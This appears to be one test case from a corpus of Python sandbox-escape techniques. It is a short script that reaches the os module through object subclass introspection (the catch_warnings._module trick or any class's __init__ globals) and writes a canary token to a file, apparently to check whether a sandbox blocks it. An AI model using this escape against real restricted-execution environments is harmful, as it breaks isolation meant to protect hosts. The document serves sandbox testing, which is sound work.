# id: intro-catch-warnings-module
# category: introspection
# description: find warnings.catch_warnings (or any class whose module imported sys) among object's subclasses and take sys.modules from it
# source: classic Python 2/3 sandbox escape (catch_warnings._module), e.g. Ned Batchelder "Eval really is dangerous"
# detect: token (the token lands in OUT)
sys_module = None
for cls in ().__class__.__base__.__subclasses__():
    if cls.__name__ == 'catch_warnings':
        sys_module = cls()._module.sys
        break
if sys_module is None:
    # warnings is not always loaded; any class whose module imported sys will do
    for cls in ().__class__.__base__.__subclasses__():
        g = getattr(cls.__init__, '__globals__', None)
        if g is not None and 'sys' in g and hasattr(g['sys'], 'modules'):
            sys_module = g['sys']
            break
os_module = sys_module.modules['os']
fd = os_module.open(OUT, os_module.O_WRONLY | os_module.O_CREAT | os_module.O_TRUNC, 0o644)
os_module.write(fd, TOKEN.encode())
os_module.close(fd)
